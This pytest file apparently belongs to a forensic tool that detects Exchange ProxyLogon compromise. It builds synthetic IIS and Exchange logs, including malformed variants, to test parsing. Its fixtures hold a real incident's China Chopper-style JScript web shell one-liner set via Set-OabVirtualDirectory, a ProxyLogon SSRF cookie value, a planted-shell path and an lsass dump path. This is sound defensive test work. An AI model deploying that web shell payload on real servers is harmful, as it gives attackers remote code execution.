"""EvidenceBuilder writes each log kind in its native format, and exactly the hostile bytes."""

from __future__ import annotations

import csv
import io
import os
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from testing_logs import exchange_rows, lines_of, read_exchange, read_w3c, w3c_rows

from exhunt.testing.builder import (
    HTTPPROXY_FIELDS,
    IIS_FIELDS,
    PROXYLOGON_REWRITE_RULES,
    RPS_CMDLET_FIELDS,
    RPS_HTTP_FIELDS,
    EvidenceBuilder,
    Hostile,
    IisRestart,
    Row,
    event_data,
)

T = datetime(2021, 3, 3, 6, 49, 42, 162000, tzinfo=UTC)
HOUR = datetime(2021, 3, 3, 6, tzinfo=UTC)
DAY = date(2021, 3, 3)
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/88.0.4324.182 Safari/537.36"
)
PROXY = "C/Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy"
# A real line from an incident (helsecert/2021-march-exchange README), as the file holds it.
HELSECERT_CMD = (
    '\'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language=""JScript"" '
    'runat=""server"">function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>'
    "''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''"
)


@pytest.fixture
def b(tmp_path: Path) -> EvidenceBuilder:
    return EvidenceBuilder(tmp_path, build="15.1.2106.2")


def test_iis_preamble_fields_and_encoding(b: EvidenceBuilder) -> None:
    rows: list[Row] = [{"time": T, "cs-method": "GET", "cs-uri-stem": "/owa/",
                        "cs(User-Agent)": CHROME, "sc-status": 200, "time-taken": 12}]  # fmt: skip
    path = b.iis(1, DAY, rows)
    assert b.relative(path) == "C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
    assert lines_of(path) == [
        "#Software: Microsoft Internet Information Services 10.0",
        "#Version: 1.0",
        "#Date: 2021-03-03 06:49:42",
        "#Fields: " + " ".join(IIS_FIELDS),
        "2021-03-03 06:49:42 - GET /owa/ - - - - "
        "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+"
        "Chrome/88.0.4324.182+Safari/537.36 - 200 - - 12",
    ]
    assert os.stat(path).st_mtime == T.replace(microsecond=0).timestamp()


def test_iis_restart_repeats_preamble_with_new_fields(b: EvidenceBuilder) -> None:
    restart = datetime(2021, 3, 3, 12, tzinfo=UTC)
    rows: list[Row] = [
        {"time": T, "cs-method": "GET"},
        {"time": restart.replace(minute=5), "cs-method": "POST"},
    ]
    xff = (*IIS_FIELDS, "X-Forwarded-For")
    segments = read_w3c(b.iis(2, DAY, rows, restarts=[IisRestart(restart, xff)]))
    assert [s.directives["Date"] for s in segments] == [
        "2021-03-03 06:49:42",
        "2021-03-03 12:00:00",
    ]
    assert [len(s.fields) for s in segments] == [15, 16]
    assert [[len(r) for r in s.rows] for s in segments] == [[15], [16]]
    assert segments[1].rows[0][-1] == "-"


def test_httpproxy_header_row_preamble_and_quoting(b: EvidenceBuilder) -> None:
    anchor = "ServerInfo~a]@ex.corp.local:444/ecp/proxyLogon.ecp?#"
    row: Row = {"DateTime": T, "RequestId": "r1", "UserAgent": CHROME, "UrlQuery": '?a="b",c',
           "AnchorMailbox": anchor, "HttpStatus": 241}  # fmt: skip
    path = b.httpproxy("Ecp", HOUR, [row])
    assert b.relative(path) == f"{PROXY}/Ecp/HttpProxy_2021030306-1.LOG"
    header, segments = read_exchange(path)
    assert header.split(",") == list(HTTPPROXY_FIELDS)
    assert len(HTTPPROXY_FIELDS) == 74
    assert segments[0].directives == {
        "Software": "Microsoft Exchange Server",
        "Version": "15.01.2106.002",
        "Log-type": "HttpProxy Logs",
        "Date": "2021-03-03T06:49:42.162Z",
        "Fields": header,
    }
    (parsed,) = exchange_rows(path)
    assert parsed["UserAgent"] == CHROME.replace(",", " ")
    assert "(KHTML  like Gecko)" in parsed["UserAgent"]
    assert parsed["UrlQuery"] == '?a="b",c'
    assert '"?a=""b"",c"' in lines_of(path)[-1]
    assert parsed["HttpStatus"] == "241" and parsed["DateTime"] == "2021-03-03T06:49:42.162Z"


def test_httpproxy_layout_follows_build(b: EvidenceBuilder) -> None:
    old = read_exchange(b.httpproxy("Owa", HOUR, [{"DateTime": T}], build="15.0.1497.2"))
    assert old[0].split(",")[-1] == "EdgeTraceId" and len(old[1][0].rows[0]) == 70
    forced = read_exchange(b.httpproxy("Owa", HOUR, [{"DateTime": T}], layout=70, seq=2))
    assert len(forced[1][0].fields) == 70


def test_unknown_field_is_refused(b: EvidenceBuilder) -> None:
    with pytest.raises(ValueError, match="AnchorMailBox"):
        b.httpproxy("Ecp", HOUR, [{"AnchorMailBox": "x"}])


def test_ecp_event_data_quoting_matches_real_lines(b: EvidenceBuilder) -> None:
    script = ('http://f/<script language="JScript" runat="server">function Page_Load()'
              '{eval(Request["klk123456"],"unsafe");}</script>')  # fmt: skip
    vdir = "982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3"
    cmd = f"Set-OabVirtualDirectory.ExternalUrl='{script}'.Identity='{vdir}'"
    pairs = [("S:TIME", "12"), ("S:CMD", cmd), ("S:EX", "a\r\nb")]
    path = b.ecp_server(DAY, [{"TimeStamp": T, "EventData": pairs}])
    assert b.relative(path).endswith("Logging/ECP/Server/ECPServer20210303-1.LOG")
    header, segments = read_exchange(path)
    assert header == "TimeStamp,ServerName,EventId,EventData"
    assert segments[0].directives["Version"] == "15.0.0.0"
    assert segments[0].directives["Log-type"] == "ECP Server Log"
    assert HELSECERT_CMD in lines_of(path)[-1]
    (row,) = exchange_rows(path)
    assert row["ServerName"] == "EXCH01" and row["EventId"] == "ECP.Request"
    assert row["EventData"] == event_data(pairs)
    assert row["EventData"].endswith(";'S:EX=a\\r\\nb'")
    assert event_data([("S:CMD", "Get-InboxRule"), ("S:URL", "/ecp/x?y=1")]) == (
        "S:CMD=Get-InboxRule;S:URL=/ecp/x?y=1"
    )


def test_rps_and_oab_logs(b: EvidenceBuilder) -> None:
    http = b.rps_http(HOUR, [{"DateTime": T, "ClientInfo": "Microsoft WinRM Client, x"}])
    cmdlet = b.rps_cmdlet(HOUR, [{"DateTime": T, "Parameters": '-ResultSize "1"'}])
    oab = b.oab_generator(
        DAY, [(T, "Download failed and temporary file 'C:\\x' needs to be removed.")]
    )
    assert b.relative(http).endswith("CmdletInfra/Powershell-Proxy/Http/Rps_Http_2021030306-1.LOG")
    assert b.relative(cmdlet).endswith("Powershell-Proxy/Cmdlet/Rps_Cmdlet_2021030306-1.LOG")
    assert b.relative(oab).endswith("Logging/OABGeneratorLog/OABGeneratorLog20210303-1.LOG")
    assert read_exchange(http)[1][0].directives["Log-type"] == "Rps Http Logs"
    assert read_exchange(cmdlet)[1][0].directives["Log-type"] == "Rps Cmdlet Logs"
    assert len(RPS_HTTP_FIELDS) == 38 and len(RPS_CMDLET_FIELDS) == 67
    assert exchange_rows(http)[0]["ClientInfo"] == "Microsoft WinRM Client  x"
    assert exchange_rows(cmdlet)[0]["Parameters"] == '-ResultSize "1"'
    assert '"-ResultSize ""1"""' in lines_of(cmdlet)[-1]
    assert exchange_rows(oab)[0]["Message"].startswith("Download failed and temporary file 'C:\\x'")


def test_paths_follow_drive_and_install(tmp_path: Path) -> None:
    b = EvidenceBuilder(tmp_path, drive="E:", install="D:\\Exchange\\")
    proxy = b.httpproxy("Owa", HOUR, [])
    iis = b.iis(1, DAY, [])
    shell = b.file("%ExchangeInstallPath%FrontEnd\\HttpProxy\\owa\\auth\\a.aspx", "x", T)
    dump = b.file("%windir%\\Temp\\lsass.dmp", b"MDMP")
    assert b.relative(proxy) == "D/Exchange/Logging/HttpProxy/Owa/HttpProxy_2021030306-1.LOG"
    assert b.relative(iis) == "E/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"
    assert b.relative(shell) == "D/Exchange/FrontEnd/HttpProxy/owa/auth/a.aspx"
    assert b.relative(dump) == "E/Windows/Temp/lsass.dmp"
    assert os.stat(shell).st_mtime == T.timestamp()
    assert b.files == tuple(sorted(b.relative(p) for p in (proxy, iis, shell, dump)))
    with pytest.raises(ValueError, match="absolute"):
        b.file("relative\\path", "x")


def test_app_host_config_uses_install_path(b: EvidenceBuilder, tmp_path: Path) -> None:
    d = EvidenceBuilder(tmp_path / "d", install="D:\\Exchange")
    path = d.app_host_config(build="15.1.2106.2")
    assert path.read_bytes().startswith(
        b'<?xml version="1.0" encoding="UTF-8"?>\r\n<configuration>'
    )
    root = ET.fromstring(path.read_bytes())
    sites = {s.get("name"): s for s in root.iter("site")}
    assert set(sites) == {"Default Web Site", "Exchange Back End"}
    owa = [a for a in sites["Default Web Site"].iter("application") if a.get("path") == "/owa"]
    assert owa[0][0].get("physicalPath") == "D:\\Exchange\\FrontEnd\\HttpProxy\\owa"
    ports = {b.get("bindingInformation") for b in sites["Exchange Back End"].iter("binding")}
    assert "*:444:" in ports
    assert root.find(".//siteDefaults/logFile").get("directory") == (  # type: ignore[union-attr]
        "%SystemDrive%\\inetpub\\logs\\LogFiles"
    )
    assert root.find(".//location[@path='Exchange Back End/owa/15.1.2106.2']") is not None


def test_web_config_rewrite_rules(b: EvidenceBuilder) -> None:
    root = ET.fromstring(b.web_config(PROXYLOGON_REWRITE_RULES).read_bytes())
    rules = root.findall("./system.webServer/rewrite/rules/rule")
    assert [r.get("name") for r in rules] == [
        "X-AnonResource-Backend Abort - inbound",
        "X-BEResource Abort - inbound",
    ]
    assert rules[1].get("stopProcessing") == "true"
    assert rules[1].find("conditions/add").get("pattern") == "(.*)X-BEResource=(.+)/(.+)~(.+)"  # type: ignore[union-attr]
    assert rules[0].find("action").get("type") == "AbortRequest"  # type: ignore[union-attr]
    empty = ET.fromstring(b.web_config().read_bytes())
    assert empty.find(".//rewrite") is None


# -- hostile variants -------------------------------------------------------------------------


def _proxy(b: EvidenceBuilder, hostile: Hostile, rows: int = 3, seq: int = 1) -> bytes:
    data: list[Row] = [{"DateTime": T, "RequestId": f"r{i}"} for i in range(rows)]
    return b.httpproxy("Owa", HOUR, data, seq=seq, hostile=hostile).read_bytes()


def test_hostile_bom_and_line_endings(b: EvidenceBuilder) -> None:
    clean = _proxy(b, Hostile())
    assert _proxy(b, Hostile(bom=True), seq=2) == b"\xef\xbb\xbf" + clean
    lf = _proxy(b, Hostile(newline="\n"), seq=3)
    assert b"\r" not in lf and lf == clean.replace(b"\r\n", b"\n")


def test_hostile_header_row(b: EvidenceBuilder) -> None:
    assert _proxy(b, Hostile(header_row=False)).startswith(
        b"#Software: Microsoft Exchange Server\r\n"
    )
    iis = b.iis(1, DAY, [{"time": T}], hostile=Hostile(header_row=True)).read_bytes()
    assert iis.startswith(b",".join(f.encode() for f in IIS_FIELDS) + b"\r\n#Software:")


def test_hostile_repeated_preamble(b: EvidenceBuilder) -> None:
    data = _proxy(b, Hostile(repeat_preamble_every=2), rows=5).decode()
    lines = data.split("\r\n")
    assert sum(1 for line in lines if line.startswith("#Fields: ")) == 3
    assert sum(1 for line in lines if line.startswith("DateTime,RequestId,")) == 3
    assert lines[6].startswith("2021-03-03T06:49:42.162Z,r0,")


def test_hostile_truncation_and_nul_padding(b: EvidenceBuilder) -> None:
    clean = _proxy(b, Hostile())
    assert _proxy(b, Hostile(truncate=17), seq=2) == clean[:-17]
    padded = _proxy(b, Hostile(truncate=17, nul_padding=4096), seq=3)
    assert padded == clean[:-17] + b"\x00" * 4096


def test_non_utf8_user_agent_bytes_are_written_raw(b: EvidenceBuilder) -> None:
    agent = b"Mozilla/5.0 (\xff\xfe\xc3; x)"
    proxy = b.httpproxy("Owa", HOUR, [{"DateTime": T, "UserAgent": agent}]).read_bytes()
    iis = b.iis(1, DAY, [{"time": T, "cs(User-Agent)": agent}]).read_bytes()
    assert b",Mozilla/5.0 (\xff\xfe\xc3; x)," in proxy
    assert b" Mozilla/5.0+(\xff\xfe\xc3;+x) " in iis
    with pytest.raises(UnicodeDecodeError):
        proxy.decode("utf-8")


def test_doubled_quotes_round_trip_through_csv(b: EvidenceBuilder) -> None:
    value = 'say "hi", then ""leave"",\nnow'
    path = b.httpproxy("Ews", HOUR, [{"DateTime": T, "GenericErrors": value}])
    text = path.read_bytes().decode()
    rows = [
        r for r in csv.reader(io.StringIO(text)) if r and not r[0].startswith(("#", "DateTime"))
    ]
    assert rows[0][HTTPPROXY_FIELDS.index("GenericErrors")] == value


def test_rows_without_time_use_the_hour(b: EvidenceBuilder) -> None:
    segments = read_exchange(b.httpproxy("Oab", HOUR, [{"RequestId": "x"}]))[1]
    assert segments[0].directives["Date"] == "2021-03-03T06:00:00.000Z"
    assert w3c_rows(b.iis(1, DAY, [{"date": "2021-03-03", "time": "01:02:03"}]))[0]["time"] == (
        "01:02:03"
    )
